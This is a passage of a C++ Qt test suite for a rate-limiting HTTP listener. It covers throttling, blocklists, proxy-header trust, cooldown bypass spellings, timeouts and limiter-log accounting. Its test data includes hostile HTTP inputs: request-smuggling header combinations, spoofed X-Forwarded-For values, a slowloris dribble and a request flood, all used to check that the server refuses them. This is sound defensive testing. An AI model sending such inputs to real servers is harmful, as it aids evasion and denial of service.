// SPDX-License-Identifier: GPL-3.0-or-later
// The traffic listener in process, over real sockets on 127.0.0.1: decision
// mode answers, client identity, hostile input, pipelining, timeouts, the
// limiter log. Proxy mode has its own suite (test_proxy).
#include <algorithm>
#include <QElapsedTimer>
#include <QtTest>

// moc cannot parse C++20 standard headers (<concepts>); it only needs the
// test class, so it does not read the project's headers.
#ifndef Q_MOC_RUN
#include "wire/Csv.h"
#include "core/Engine.h"
#include "HttpTestClient.h"
#include "http/LimiterLog.h"
#include "http/Listener.h"
#include "ListenerStack.h"
#include "http/Metrics.h"
#include "core/Tuning.h"

#include <fcntl.h>
#include <sys/resource.h>

#include <atomic>
#include <csignal>
#include <filesystem>
#include <fstream>
#include <map>
#include <memory>
#include <set>
#include <sstream>
#include <thread>
#endif

using namespace Floodgate;
using namespace FloodgateTest;

namespace {

struct Server {
    explicit Server(Core::EngineConfig config = Core::defaultConfig(), Http::ListenerOptions options = {}, std::string logPath = {},
                    std::size_t logRecordsPerThread = Core::Tuning::limiterLogRecordsPerThread)
        : engine(std::move(config))
        , log(std::move(logPath), 2, logRecordsPerThread)
        , metrics(2)
    {
        options.port = 0;
        options.threads = 2;
        options.shutdownDeadlineMs = 500;
        listener = std::make_unique<Http::Listener>(engine, options, &log, &metrics);
        std::string why;
        log.start(&why);
        started = listener->start(&why);
        error = why;
    }
    ~Server()
    {
        listener->stop();
        log.stop();
    }
    std::uint16_t port() const { return listener->port(); }

    Core::Engine engine;
    Http::LimiterLog log;
    Http::ListenerMetrics metrics;
    std::unique_ptr<Http::Listener> listener;
    bool started = false;
    std::string error;
};

// Where a test's manual clock starts: a whole hour (2026-09-21), so every
// default bucket width divides it.
constexpr Core::Millis ClockStart = 1'789'999'200'000;

// One request on an open connection and its answer (status 0: none came).
Response roundTrip(Connection& c, const std::string& request)
{
    return (c.send(request) ? c.read() : std::nullopt).value_or(Response{});
}

Core::EngineConfig noEscalation()
{
    Core::EngineConfig c = Core::defaultConfig();
    c.escalation.enabled = false;
    return c;
}

// A refused GET as the listener hands it to limiter.log.
struct Refusal {
    Core::Decision decision;
    Core::RequestFacts facts;
};

Refusal throttledGet(std::string_view path)
{
    Refusal r;
    r.decision.action = Core::Action::Throttle;
    r.facts.method = "GET";
    r.facts.path = path;
    return r;
}

// A limiter.log with one producer in a temporary folder, started.
struct TempLimiterLog {
    QTemporaryDir dir;
    std::string path = dir.filePath(QStringLiteral("limiter.log")).toStdString();
    Http::LimiterLog log{path, 1};
    std::string error;
    bool started = log.start(&error);
};

// What limiter.log says about its refusals: a line each, except summary
// lines, which stand for their `attempts`.
struct LogAccount {
    std::uint64_t refusals = 0;
    std::uint64_t lines = 0;
    std::uint64_t summaryLines = 0;
    std::map<std::string, std::uint64_t> byClient;     // ip -> refusals
    std::map<std::string, std::uint64_t> linesByClient;  // ip -> lines of their own (not summaries)
    bool ok = false;
};

LogAccount readLimiterLog(const std::string& path)
{
    LogAccount a;
    std::ifstream in(path, std::ios::binary);
    const std::string content((std::istreambuf_iterator<char>(in)), std::istreambuf_iterator<char>());
    std::vector<Wire::Csv::Record> records;
    std::string why;
    if (!Wire::Csv::read(content, records, why) || records.empty())
        return a;
    for (std::size_t i = 1; i < records.size(); ++i) {
        const auto& f = records[i].fields;
        if (f.size() != 12)
            return a;
        ++a.lines;
        std::uint64_t n = 1;
        if (std::string_view(f[1]).ends_with(Http::LimiterLogSummarySuffix)) {
            n = std::stoull(f[4]);
            ++a.summaryLines;
        } else {
            ++a.linesByClient[f[3]];
        }
        a.refusals += n;
        a.byClient[f[3]] += n;
    }
    a.ok = true;
    return a;
}

// The refusals /metrics counts (floodgate_refusals_total, every label).
std::uint64_t refusalsInMetrics(const Server& s)
{
    const std::string text = s.metrics.render(s.engine, &s.log, Core::Millis(0));
    std::uint64_t n = 0;
    std::istringstream in(text);
    for (std::string line; std::getline(in, line);)
        if (line.starts_with("floodgate_refusals_total{"))
            n += std::stoull(line.substr(line.rfind(' ') + 1));
    return n;
}

} // namespace

class TestListener : public QObject {
    Q_OBJECT

private Q_SLOTS:
    void seventhRequestIsThrottledWithTheEnginesRetryAfter()
    {
        Server s(noEscalation());
        QVERIFY2(s.started, s.error.c_str());
        Connection c(s.port());
        for (int i = 1; i <= 6; ++i) {
            QVERIFY(c.send(get("/page")));
            auto r = c.read();
            QVERIFY(r);
            QCOMPARE(r->status, 200);
            QCOMPARE(QString::fromStdString(r->body), QStringLiteral("ok"));
            QCOMPARE(QString::fromStdString(r->header("ratelimit-policy")), QStringLiteral("\"ip-3s\";q=6;w=3"));
            QCOMPARE(QString::fromStdString(r->header("ratelimit")), QStringLiteral("\"ip-3s\";r=%1;t=3").arg(6 - i));
        }
        QVERIFY(c.send(get("/page")));
        auto r = c.read();
        QVERIFY(r);
        QCOMPARE(r->status, 429);
        // The lockout level refuses for exactly 3 s: the engine's retry-after.
        QCOMPARE(QString::fromStdString(r->header("retry-after")), QStringLiteral("3"));
        QCOMPARE(QString::fromStdString(r->header("cache-control")), QStringLiteral("no-store"));
        QCOMPARE(QString::fromStdString(r->header("ratelimit")), QStringLiteral("\"ip-3s\";r=0;t=3"));
        QCOMPARE(QString::fromStdString(r->body),
                 QStringLiteral("You are making too many requests too fast, please slow down and wait 3 seconds.\n"));
        // The same connection keeps working (the refusal had no body to skip).
        QVERIFY(c.send(get("/page")));
        r = c.read();
        QVERIFY(r);
        QCOMPARE(r->status, 429);
    }

    void jsonWhenTheClientAsksForIt()
    {
        Server s(noEscalation());
        for (int i = 0; i < 6; ++i)
            QVERIFY(fetch(s.port(), get("/")));
        auto r = fetch(s.port(), get("/", "Accept: application/json\r\n"));
        QVERIFY(r);
        QCOMPARE(r->status, 429);
        QCOMPARE(QString::fromStdString(r->header("content-type")), QStringLiteral("application/json"));
        QCOMPARE(QString::fromStdString(r->body), QStringLiteral("{\"error\":\"rate_limited\",\"rule\":\"ip-3s\",\"retry_after\":3}\n"));
    }

    void throttleStatusIsARuleSetting()
    {
        Core::EngineConfig c = noEscalation();
        c.settings.throttleStatus = 503;
        Server s(c);
        for (int i = 0; i < 6; ++i)
            QVERIFY(fetch(s.port(), get("/")));
        auto r = fetch(s.port(), get("/"));
        QVERIFY(r);
        QCOMPARE(r->status, 503);
        QCOMPARE(QString::fromStdString(r->header("retry-after")), QStringLiteral("3"));
    }

    void blocklistAnswers403AndSpendsNothing()
    {
        Server s(noEscalation());
        s.engine.setList(Core::ListKind::Blocklist, std::make_shared<const Core::AddressList>(std::vector<Core::ListEntry>{
                                                        Core::ListEntry{0, *Core::Cidr::parse("127.0.0.0/8"), "test", Core::ListSource::Operator, 0, "t", Core::NeverExpires}}));
        for (int i = 0; i < 10; ++i) {
            auto r = fetch(s.port(), get("/"));
            QVERIFY(r);
            QCOMPARE(r->status, 403);
        }
        s.engine.setList(Core::ListKind::Blocklist, nullptr);
        auto r = fetch(s.port(), get("/"));
        QVERIFY(r);
        QCOMPARE(r->status, 200);
        QCOMPARE(QString::fromStdString(r->header("ratelimit")), QStringLiteral("\"ip-3s\";r=5;t=3"));
    }

    void spoofedForwardingHeadersFromAnUntrustedPeerAreIgnored()
    {
        Server s(noEscalation());  // no trusted proxies at all
        for (int i = 0; i < 6; ++i) {
            auto r = fetch(s.port(), get("/", "X-Forwarded-For: 198.51.100." + std::to_string(i) + "\r\nForwarded: for=192.0.2.9\r\n"));
            QVERIFY(r);
            QCOMPARE(r->status, 200);
        }
        // Every request counted against the real peer, whatever it claimed.
        auto r = fetch(s.port(), get("/", "X-Forwarded-For: 198.51.100.99\r\n"));
        QVERIFY(r);
        QCOMPARE(r->status, 429);
        QVERIFY(!s.engine.client(*Core::IpAddress::parse("198.51.100.99"), Core::SystemClock().now()));
        QVERIFY(s.engine.client(*Core::IpAddress::parse("127.0.0.1"), Core::SystemClock().now()));
    }

    void trustedProxyChainsResolveToTheClient_data()
    {
        QTest::addColumn<QString>("realIpHeader");
        QTest::addColumn<QString>("header");
        QTest::addColumn<QString>("client");
        const QString xff = QStringLiteral("X-Forwarded-For");
        QTest::newRow("one hop") << xff << QStringLiteral("X-Forwarded-For: 203.0.113.9") << QStringLiteral("203.0.113.9");
        QTest::newRow("walk over trusted hops") << xff << QStringLiteral("X-Forwarded-For: 203.0.113.9, 10.0.0.7, 10.0.0.8")
                                                << QStringLiteral("203.0.113.9");
        QTest::newRow("leftmost spoof not believed") << xff << QStringLiteral("X-Forwarded-For: 1.2.3.4, 203.0.113.9, 10.0.0.8")
                                                     << QStringLiteral("203.0.113.9");
        QTest::newRow("Forwarded header") << QStringLiteral("Forwarded") << QStringLiteral("Forwarded: for=\"[2001:db8::7]:4711\";proto=https")
                                          << QStringLiteral("2001:db8::7");
        QTest::newRow("X-Real-IP") << QStringLiteral("X-Real-IP") << QStringLiteral("X-Real-IP: 203.0.113.11") << QStringLiteral("203.0.113.11");
        QTest::newRow("mapped IPv4") << xff << QStringLiteral("X-Forwarded-For: ::ffff:203.0.113.5") << QStringLiteral("203.0.113.5");
        // Only the named header counts: the default ignores a Forwarded header.
        QTest::newRow("Forwarded ignored by default") << xff << QStringLiteral("Forwarded: for=203.0.113.12") << QStringLiteral("127.0.0.1");
    }
    void trustedProxyChainsResolveToTheClient()
    {
        QFETCH(QString, realIpHeader);
        QFETCH(QString, header);
        QFETCH(QString, client);
        Http::ListenerOptions o;
        o.trustedProxies = Http::TrustedProxies({*Core::Cidr::parse("127.0.0.1"), *Core::Cidr::parse("10.0.0.0/8")}, realIpHeader.toStdString());
        Server s(noEscalation(), o);
        auto r = fetch(s.port(), get("/", header.toStdString() + "\r\n"));
        QVERIFY(r);
        QCOMPARE(r->status, 200);
        const auto now = Core::SystemClock().now();
        auto detail = s.engine.client(*Core::IpAddress::parse(client.toStdString()), now);
        QVERIFY2(detail.has_value(), "the resolved client is tracked");
        QCOMPARE(detail->summary.last60s, 1u);
        if (client != QStringLiteral("127.0.0.1"))
            QVERIFY(!s.engine.client(*Core::IpAddress::parse("127.0.0.1"), now));
    }

    // Behind a proxy that writes only Forwarded, a client's own
    // X-Forwarded-For is whatever it typed: with --real-ip-header Forwarded
    // it is ignored, whoever sends it, and the proxy's word counts.
    void aClientsOwnXForwardedForIsIgnoredWhenTheProxyWritesForwarded()
    {
        Http::ListenerOptions o;
        o.trustedProxies = Http::TrustedProxies({*Core::Cidr::parse("127.0.0.1")}, "Forwarded");
        Server s(noEscalation(), o);
        QVERIFY2(s.started, s.error.c_str());
        // Seven requests, each claiming another address in X-Forwarded-For;
        // the proxy says the same client every time.
        int last = 0;
        for (int i = 0; i < 7; ++i) {
            auto r = fetch(s.port(), get("/", "X-Forwarded-For: 198.51.100." + std::to_string(i + 1)
                                                  + "\r\nForwarded: for=\"203.0.113.60:5123\";proto=https;by=127.0.0.1\r\n"));
            QVERIFY(r);
            last = r->status;
        }
        QCOMPARE(last, 429);  // the seventh from one client: rotating X-Forwarded-For bought nothing
        const auto now = Core::SystemClock().now();
        QVERIFY(s.engine.client(*Core::IpAddress::parse("203.0.113.60"), now));
        for (int i = 1; i <= 7; ++i)
            QVERIFY(!s.engine.client(*Core::IpAddress::parse("198.51.100." + std::to_string(i)), now));
        // The refusal's event names the chain the proxy told (not the client's header).
        s.log.flush();
        const auto events = s.log.events(0, 10);
        QCOMPARE(events.size(), std::size_t(1));
        QCOMPARE(QString::fromLatin1(events[0].record.forwardedFor), QStringLiteral("203.0.113.60"));
    }

    void originalRequestFromATrustedAuthRequestPeer()
    {
        // nginx auth_request sends the original URI in X-Original-URI: an
        // excluded static path is then not counted.
        Http::ListenerOptions o;
        o.trustedProxies = Http::TrustedProxies({*Core::Cidr::parse("127.0.0.1")});
        Server s(noEscalation(), o);
        for (int i = 0; i < 20; ++i) {
            auto r = fetch(s.port(), get("/_auth", "X-Original-URI: /static/site.css?v=3\r\nX-Original-Method: GET\r\nX-Forwarded-For: 203.0.113.50\r\n"));
            QVERIFY(r);
            QCOMPARE(r->status, 200);
        }
    }

    void everySpellingOfAPathMeetsItsCooldown()
    {
        // POST /comments has a 30 s cooldown per X-User-Id; decision mode
        // starts it on the allowed request. Each spelling comes from an
        // address of its own so only the cooldown can refuse it.
        Server s(noEscalation());
        auto post = [](const std::string& target) {
            return "POST " + target + " HTTP/1.1\r\nHost: h\r\nX-User-Id: carol\r\nContent-Length: 0\r\n\r\n";
        };
        auto r = fetch(s.port(), post("/comments"), 3000, "127.0.0.2");
        QVERIFY(r);
        QCOMPARE(r->status, 200);
        int source = 10;
        for (const std::string& spelling : bypassSpellings) {
            const std::string from = "127.0.0." + std::to_string(source++);
            r = fetch(s.port(), post(spelling), 3000, from.c_str());
            QVERIFY2(r, spelling.c_str());
            QVERIFY2(r->status == 429, (spelling + " got " + std::to_string(r->status)).c_str());
            QCOMPARE(QString::fromStdString(r->header("ratelimit-policy")), QStringLiteral("\"cooldown:comments\";q=1;w=30"));
        }
        // Paths that only look alike are other actions.
        for (const std::string other : {"/comments2", "/comment", "/comments%2F", "/x/comments"}) {
            const std::string from = "127.0.0." + std::to_string(source++);
            r = fetch(s.port(), post(other), 3000, from.c_str());
            QVERIFY2(r && r->status == 200, other.c_str());
        }
    }

    void everySpellingInAnOriginalUriMeetsItsCooldown()
    {
        Http::ListenerOptions o;
        o.trustedProxies = Http::TrustedProxies({*Core::Cidr::parse("127.0.0.1")});
        Server s(noEscalation(), o);
        int client = 10;
        auto ask = [&](const std::string& header, const std::string& target) {
            const std::string xff = "X-Forwarded-For: 203.0.113." + std::to_string(client++) + "\r\n";
            return fetch(s.port(), get("/_auth", header + ": " + target + "\r\nX-Original-Method: POST\r\nX-Forwarded-Method: POST\r\n"
                                                     "X-User-Id: carol\r\n" + xff));
        };
        auto r = ask("X-Original-URI", "/comments");
        QVERIFY(r);
        QCOMPARE(r->status, 200);
        for (const char* header : {"X-Original-URI", "X-Forwarded-Uri"}) {
            for (const std::string& spelling : bypassSpellings) {
                r = ask(header, spelling);
                QVERIFY2(r, spelling.c_str());
                QVERIFY2(r->status == 429, (std::string(header) + ": " + spelling + " got " + std::to_string(r->status)).c_str());
            }
        }
        // A malformed original target is the proxy's bad request.
        r = ask("X-Original-URI", "/comments%zz");
        QVERIFY(r);
        QCOMPARE(r->status, 400);
        QVERIFY2(r->body.find("percent-escape") != std::string::npos, r->body.c_str());
    }

    void hostileInputGetsItsStatusAndTheListenerKeepsServing_data()
    {
        QTest::addColumn<QByteArray>("request");
        QTest::addColumn<int>("status");
        const QByteArray longTarget = "/" + QByteArray(9000, 'a');
        const QByteArray bigHeader = "X-Big: " + QByteArray(9000, 'b') + "\r\n";
        QByteArray manyFields;
        for (int i = 0; i < 150; ++i)
            manyFields += "X-F" + QByteArray::number(i) + ": v\r\n";
        QTest::newRow("request line over 8 KiB") << ("GET " + longTarget + " HTTP/1.1\r\nHost: t\r\n\r\n") << 414;
        QTest::newRow("header over 8 KiB") << ("GET / HTTP/1.1\r\nHost: t\r\n" + bigHeader + "\r\n") << 431;
        QTest::newRow("too many fields") << ("GET / HTTP/1.1\r\nHost: t\r\n" + manyFields + "\r\n") << 431;
        QTest::newRow("content-length and chunked") << QByteArray("POST / HTTP/1.1\r\nHost: t\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n") << 400;
        QTest::newRow("chunked then content-length") << QByteArray("POST / HTTP/1.1\r\nHost: t\r\nTransfer-Encoding: chunked\r\nContent-Length: 4\r\n\r\n0\r\n\r\n") << 400;
        QTest::newRow("two equal content-lengths") << QByteArray("POST / HTTP/1.1\r\nHost: t\r\nContent-Length: 4\r\nContent-Length: 4\r\n\r\nabcd") << 400;
        QTest::newRow("gzip transfer-encoding with content-length") << QByteArray("POST / HTTP/1.1\r\nHost: t\r\nTransfer-Encoding: gzip\r\nContent-Length: 4\r\n\r\nabcd") << 400;
        QTest::newRow("unsupported transfer-encoding") << QByteArray("POST / HTTP/1.1\r\nHost: t\r\nTransfer-Encoding: gzip, chunked\r\n\r\n0\r\n\r\n") << 501;
        QTest::newRow("chunked twice") << QByteArray("POST / HTTP/1.1\r\nHost: t\r\nTransfer-Encoding: chunked, chunked\r\n\r\n0\r\n\r\n") << 501;
        QTest::newRow("transfer-encoding in HTTP/1.0") << QByteArray("POST / HTTP/1.0\r\nHost: t\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n") << 400;
        QTest::newRow("body over the limit") << QByteArray("POST / HTTP/1.1\r\nHost: t\r\nContent-Length: 2000\r\n\r\n") << 413;
        QTest::newRow("garbage") << QByteArray("\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03 hello\r\n\r\n") << 400;
        QTest::newRow("bad request line") << QByteArray("GET\r\n\r\n") << 400;
        QTest::newRow("malformed percent-escape") << QByteArray("GET /a%zz HTTP/1.1\r\nHost: t\r\n\r\n") << 400;
        QTest::newRow("encoded NUL") << QByteArray("GET /a%00b HTTP/1.1\r\nHost: t\r\n\r\n") << 400;
        QTest::newRow("fragment in the target") << QByteArray("GET /a#b HTTP/1.1\r\nHost: t\r\n\r\n") << 400;
        QTest::newRow("target without a slash") << QByteArray("GET abc HTTP/1.1\r\nHost: t\r\n\r\n") << 400;
        QTest::newRow("HTTP/1.1 without Host") << QByteArray("GET / HTTP/1.1\r\n\r\n") << 400;
        QTest::newRow("two Hosts") << QByteArray("GET / HTTP/1.1\r\nHost: t\r\nHost: u\r\n\r\n") << 400;
        QTest::newRow("folded header") << QByteArray("GET / HTTP/1.1\r\nHost: t\r\nX-A: 1\r\n\t2\r\n\r\n") << 400;
        QTest::newRow("CONNECT") << QByteArray("CONNECT t:443 HTTP/1.1\r\nHost: t:443\r\n\r\n") << 501;
    }
    void hostileInputGetsItsStatusAndTheListenerKeepsServing()
    {
        QFETCH(QByteArray, request);
        QFETCH(int, status);
        Http::ListenerOptions o;
        o.bodyLimitBytes = 1000;
        Server s(noEscalation(), o);
        Connection c(s.port());
        QVERIFY(c.send(request.toStdString()));
        auto r = c.read();
        QVERIFY(r);
        QCOMPARE(r->status, status);
        QVERIFY2(c.closedByPeer(), "the connection is closed after a protocol error");
        // Everyone else is still served.
        auto ok = fetch(s.port(), get("/"));
        QVERIFY(ok);
        QCOMPARE(ok->status, 200);
    }

    void pipelinedRequestsAreAnsweredInOrder()
    {
        Server s(noEscalation());
        Connection c(s.port());
        std::string batch;
        for (int i = 0; i < 8; ++i)
            batch += get("/p" + std::to_string(i));
        QVERIFY(c.send(batch));
        for (int i = 0; i < 8; ++i) {
            auto r = c.read();
            QVERIFY(r);
            QCOMPARE(r->status, i < 6 ? 200 : 429);
        }
    }

    void slowlorisIsCutOffByTheHeaderDeadline()
    {
        Http::ListenerOptions o;
        o.headerTimeoutMs = 400;
        Server s(noEscalation(), o);
        Connection c(s.port());
        QVERIFY(c.send("GET / HTTP/1.1\r\nHost: t\r\n"));
        QElapsedTimer t;
        t.start();
        // Dribble a byte every 100 ms: it must not extend the deadline.
        bool closed = false;
        for (int i = 0; i < 20 && !closed; ++i) {
            c.send("X");
            closed = c.closedByPeer(100);
        }
        QVERIFY2(closed, "the slow header was cut off");
        QVERIFY(t.elapsed() >= 350);
        QVERIFY(t.elapsed() < 1500);
        auto ok = fetch(s.port(), get("/"));
        QVERIFY(ok);
        QCOMPARE(ok->status, 200);
    }

    void idleKeepAliveIsClosed()
    {
        Http::ListenerOptions o;
        o.idleTimeoutMs = 300;
        Server s(noEscalation(), o);
        Connection c(s.port());
        QVERIFY(c.send(get("/")));
        QVERIFY(c.read());
        QElapsedTimer t;
        t.start();
        QVERIFY(c.closedByPeer(2000));
        QVERIFY(t.elapsed() >= 250);
    }

    // Connection deadlines are judged on the listener's clock: with a manual
    // clock, an idle keep-alive connection and a header sent a line at a
    // time are closed when that clock says so, to the millisecond, after
    // well under a second of real time (on the real clock: a minute). The
    // listener has one thread, so a fresh request answered (`settled`) means
    // what the connections before it sent has been read and their deadlines
    // set at the clock's time then.
    void deadlinesAreJudgedOnTheListenersClock()
    {
        Core::ManualClock clock(ClockStart);
        Http::ListenerOptions o;
        o.idleTimeoutMs = 60'000;
        o.headerTimeoutMs = 10'000;
        o.writeTimeoutMs = 120'000;  // never the deadline that decides here
        ListenerStack s(Core::defaultConfig(), o, clock);
        QVERIFY2(s.started, s.error.c_str());
        QCOMPARE(s.listener->threads(), 1u);
        auto settled = [&] {
            const auto r = fetch(s.port(), get("/"), 3000, "127.0.0.2");
            return r && r->status == 200;
        };
        Connection early(s.port());
        QCOMPARE(roundTrip(early, get("/")).status, 200);
        QVERIFY(settled());  // early idles from +0: due at +60'000
        clock.advance(1);
        Connection late(s.port());
        QCOMPARE(roundTrip(late, get("/")).status, 200);
        QVERIFY(settled());  // late idles from +1: due at +60'001
        clock.set(ClockStart + 50'000);
        Connection slow(s.port());
        QVERIFY(slow.send("GET / HTTP/1.1\r\n"));
        QVERIFY(settled());  // the header's first byte at +50'000: due at +60'000
        clock.set(ClockStart + 59'999);
        QVERIFY(slow.send("Host: t\r\n"));  // more of the header does not move its deadline
        QVERIFY(settled());

        clock.set(ClockStart + 60'000);
        QVERIFY2(early.closedByPeer(3000), "the idle connection is closed when the clock reaches its deadline");
        QVERIFY2(slow.closedByPeer(3000), "the header is cut off 10 s of the clock after its first byte");
        QVERIFY(settled());  // the sweep that closed them is over
        QVERIFY2(!late.readable(), "a connection 1 ms short of its deadline stays open");
        clock.advance(1);
        QVERIFY2(late.closedByPeer(3000), "and is closed 1 ms later");
    }

    // Decisions are made at the listener's clock's time, and refusals are
    // recorded at it: the seventh request in 3 s of that clock is throttled
    // with the engine's Retry-After, and 3 s later on it (no real time
    // later) the client is let through.
    void decisionsAreMadeAtTheListenersTime()
    {
        Core::ManualClock clock(ClockStart);
        ListenerStack s(Core::defaultConfig(), {}, clock);
        QVERIFY2(s.started, s.error.c_str());
        Connection c(s.port());
        for (int i = 0; i < 6; ++i)
            QCOMPARE(roundTrip(c, get("/page")).status, 200);
        clock.advance(1'000);
        Response r = roundTrip(c, get("/page"));
        QCOMPARE(r.status, 429);
        QCOMPARE(QString::fromStdString(r.header("retry-after")), QStringLiteral("3"));
        clock.advance(2'999);
        r = roundTrip(c, get("/page"));
        QCOMPARE(r.status, 429);
        QCOMPARE(QString::fromStdString(r.header("retry-after")), QStringLiteral("1"));
        clock.advance(1);
        QCOMPARE(roundTrip(c, get("/page")).status, 200);
        s.log.flush();
        const auto refusals = s.log.events(0, 10);
        QCOMPARE(refusals.size(), std::size_t(2));
        QCOMPARE(refusals[0].record.time, ClockStart + 1'000);
        QCOMPARE(refusals[1].record.time, ClockStart + 3'999);
    }

    void connectionCloseAndHttp10AreHonoured()
    {
        Server s(noEscalation());
        Connection c(s.port());
        QVERIFY(c.send("GET / HTTP/1.1\r\nHost: t\r\nConnection: close\r\n\r\n"));
        auto r = c.read();
        QVERIFY(r);
        QCOMPARE(QString::fromStdString(r->header("connection")), QStringLiteral("close"));
        QVERIFY(c.closedByPeer());
        Connection d(s.port());
        QVERIFY(d.send("GET / HTTP/1.0\r\n\r\n"));
        r = d.read();
        QVERIFY(r);
        QCOMPARE(r->status, 200);
        QVERIFY(d.closedByPeer());
    }

    void refusalsGoToTheLimiterLog()
    {
        const auto dir = std::filesystem::temp_directory_path() / ("fg-log-" + std::to_string(::getpid()));
        std::filesystem::create_directories(dir);
        const auto path = (dir / "limiter.log").string();
        std::filesystem::remove(path);
        {
            Server s(noEscalation(), {}, path);
            for (int i = 0; i < 8; ++i)
                QVERIFY(fetch(s.port(), get("/search?q=a,b", "User-Agent: Bot, \"quoted\"\r\nCookie: a=1; b=2\r\n")));
            s.log.flush();
            QCOMPARE(s.log.written(), std::uint64_t(2));
            QCOMPARE(s.log.dropped(), std::uint64_t(0));
        }
        std::ifstream in(path);
        std::string header, line1, line2, extra;
        std::getline(in, header);
        std::getline(in, line1);
        std::getline(in, line2);
        QCOMPARE(QString::fromStdString(header), QStringLiteral("time,action,rule,ip,attempts,method,path,query,user_agent,window_start,cookies,customer\r"));
        // RFC 4180: fields with commas or quotes are quoted, quotes doubled.
        QVERIFY2(line1.find(",throttle,ip-3s,127.0.0.1,6,GET,/search,\"q=a,b\",\"Bot, \"\"quoted\"\"\",") != std::string::npos,
                 line1.c_str());
        QVERIFY2(line1.find(",2,\r") != std::string::npos, line1.c_str());  // two cookies, no customer
        QVERIFY(!std::getline(in, extra) || extra.empty());
        std::filesystem::remove_all(dir);
    }

    // A client refused 1,000 times in one second gets ten lines of its own
    // and one summary line standing for the other 990; a client refused
    // five times gets five lines. The file accounts for every refusal.
    void aFastClientGetsTenLinesASecondThenOneSummaryLine()
    {
        TempLimiterLog t;
        QVERIFY2(t.started, t.error.c_str());
        Http::LimiterLog& log = t.log;
        const std::string& path = t.path;
        std::string why;
        Refusal r = throttledGet("/");
        r.decision.rule.assign("ip-3s");
        r.decision.count = 7;
        const Core::Millis second = 1'700'000'000'000;
        for (int i = 0; i < 1000; ++i) {
            r.facts.client = *Core::IpAddress::parse("203.0.113.7");
            log.push(0, r.decision, r.facts, {}, {}, second + i % 1000);
            if (i % 200 == 0) {
                r.facts.client = *Core::IpAddress::parse("203.0.113.8");
                log.push(0, r.decision, r.facts, {}, {}, second + i % 1000);
            }
        }
        log.flush();
        QCOMPARE(log.summarised(), std::uint64_t(990));
        QCOMPARE(log.written(), std::uint64_t(10 + 1 + 5));
        QCOMPARE(log.dropped(), std::uint64_t(0));
        log.stop();
        LogAccount a = readLimiterLog(path);
        QVERIFY(a.ok);
        QCOMPARE(a.refusals, std::uint64_t(1005));
        QCOMPARE(a.summaryLines, std::uint64_t(1));
        QCOMPARE(a.byClient["203.0.113.7"], std::uint64_t(1000));
        QCOMPARE(a.linesByClient["203.0.113.7"], std::uint64_t(Core::Tuning::limiterLogLinesPerClientSecond));
        QCOMPARE(a.byClient["203.0.113.8"], std::uint64_t(5));
        // The summary: the action marked, attempts = the refusals it stands for.
        std::ifstream in(path);
        std::string line, summary;
        while (std::getline(in, line))
            if (line.find("_summary") != std::string::npos)
                summary = line;
        QVERIFY2(summary.find(",throttle_summary,ip-3s,203.0.113.7,990,GET,/,") != std::string::npos, summary.c_str());
        // Lines of their own keep the client's count in its window.
        std::ifstream again0(path);
        std::size_t own = 0;
        while (std::getline(again0, line))
            own += line.find(",throttle,ip-3s,203.0.113.7,7,GET,/,") != std::string::npos ? 1 : 0;
        QCOMPARE(own, std::size_t(Core::Tuning::limiterLogLinesPerClientSecond));

        // The next second: a fresh budget of ten lines.
        Http::LimiterLog again(path, 1);
        QVERIFY2(again.start(&why), why.c_str());
        r.facts.client = *Core::IpAddress::parse("203.0.113.7");
        for (int i = 0; i < 12; ++i)
            again.push(0, r.decision, r.facts, {}, {}, second + Core::SECOND + i);
        again.flush();
        QCOMPARE(again.written(), std::uint64_t(11));
        QCOMPARE(again.summarised(), std::uint64_t(2));
    }

    // A listener thread whose ring is full (the writer not even running
    // here) folds each refusal into its table, per client, and past the
    // clients the table tells apart under `::`: nothing is lost, and the
    // lines stay few.
    void aFullRingFoldsRefusalsAndLosesNone()
    {
        QTemporaryDir dir;
        const std::string path = dir.filePath(QStringLiteral("limiter.log")).toStdString();
        Http::LimiterLog log(path, 1, 8);
        Refusal r = throttledGet("/x");
        r.decision.rule.assign("ip-3s");
        const Core::Millis t = 1'700'000'000'000;
        // Three clients, 30 refusals each, then 300 clients once each.
        for (int i = 0; i < 90; ++i) {
            r.facts.client = Core::IpAddress::fromV4(0xCB007100u + std::uint32_t(i % 3));  // 203.0.113.0-2
            log.push(0, r.decision, r.facts, {}, {}, t + i);
        }
        for (int i = 0; i < 300; ++i) {
            r.facts.client = Core::IpAddress::fromV4(0xC6336400u + std::uint32_t(i));  // 198.51.100.0 on
            log.push(0, r.decision, r.facts, {}, {}, t + 100 + i);
        }
        std::string why;
        QVERIFY2(log.start(&why), why.c_str());
        log.stop();  // takes what the thread folded
        QCOMPARE(log.dropped(), std::uint64_t(0));
        QCOMPARE(log.folded(), std::uint64_t(390 - 8));
        LogAccount a = readLimiterLog(path);
        QVERIFY(a.ok);
        QCOMPARE(a.refusals, std::uint64_t(390));
        for (int c = 0; c < 3; ++c)
            QCOMPARE(a.byClient["203.0.113." + std::to_string(c)], std::uint64_t(30));
        const std::uint64_t apart = Core::Tuning::limiterLogFoldSlots - Core::Tuning::limiterLogFoldKinds;
        QVERIFY2(a.byClient.count("::") == 1, "clients past the fold table are counted under ::");
        // The ring took the first 8; the fold table the three clients and
        // (apart - 3) of the others; the rest are under ::.
        QCOMPARE(a.byClient["::"], std::uint64_t(300 - (apart - 3)));
        QCOMPARE(a.lines, std::uint64_t(8 + apart + 1));  // the ring's 8, a summary per folded client and one for ::
    }

    // A flood through the real listener, on two threads with rings of 16
    // records (so they overflow again and again): every refusal /metrics
    // counts is in limiter.log, as a line or within a summary line, while
    // the server runs (folded refusals are handed over by each thread's
    // sweep) and after it stops; and the lines are few.
    void aFloodIsAccountedForExactlyInTheLimiterLog()
    {
        QTemporaryDir dir;
        const std::string path = dir.filePath(QStringLiteral("limiter.log")).toStdString();
        QElapsedTimer elapsed;
        elapsed.start();
        {
            Server s(noEscalation(), {}, path, 16);
            QVERIFY2(s.started, s.error.c_str());
            constexpr int Clients = 4, Batches = 250, Depth = 16;  // 16,000 requests
            std::string batch;
            for (int i = 0; i < Depth; ++i)
                batch += get("/flood?i=" + std::to_string(i));
            for (int c = 0; c < Clients; ++c) {
                Connection conn;
                const std::string from = "127.0.0." + std::to_string(20 + c);
                QVERIFY(conn.open(s.port(), "127.0.0.1", from.c_str()));
                for (int b = 0; b < Batches; ++b) {
                    QVERIFY(conn.send(batch));
                    for (int i = 0; i < Depth; ++i) {
                        const auto answer = conn.read();
                        QVERIFY(answer);
                    }
                }
            }
